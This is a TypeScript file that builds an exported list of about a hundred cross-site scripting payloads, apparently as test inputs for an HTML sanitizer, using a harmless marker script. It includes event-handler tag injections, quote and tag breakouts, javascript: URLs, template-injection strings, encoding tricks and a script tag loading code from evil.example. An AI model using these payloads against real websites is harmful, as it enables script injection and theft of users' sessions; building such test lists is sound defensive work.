/** Known ways to make text run as a script, or to hide what it says. */
const RUN = "parent.ran=1;alert(1)";

const TAGS = [
  "img src=x onerror=",
  "svg onload=",
  "body onload=",
  "iframe onload=",
  "video src=x onerror=",
  "audio src=x onerror=",
  "input autofocus onfocus=",
  "select autofocus onfocus=",
  "textarea autofocus onfocus=",
  "details open ontoggle=",
  "marquee onstart=",
  "object data=x onerror=",
  "embed src=x onload=",
  "link rel=stylesheet href=x onerror=",
  "style onload=",
  "math href=javascript: onclick=",
  "a href=# autofocus tabindex=1 onfocus=",
  "form onsubmit=",
  "div style=animation-name:x onanimationstart=",
  "isindex type=image src=x onerror=",
];

const around = (handler: string): string[] => [
  `<${handler}"${RUN}">`,
  `"><${handler}'${RUN}'>`,
  `'><${handler}${RUN.replace(/ /g, "")}>`,
  `</title></script><${handler}"${RUN}">`,
];

const OTHERS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `</script><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<img src="javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `\u0000<script>${RUN}</script>\ufeff`,
];

/** A hundred of them. */
export const HOSTILE_STRINGS: readonly string[] = [...TAGS.flatMap(around), ...OTHERS];
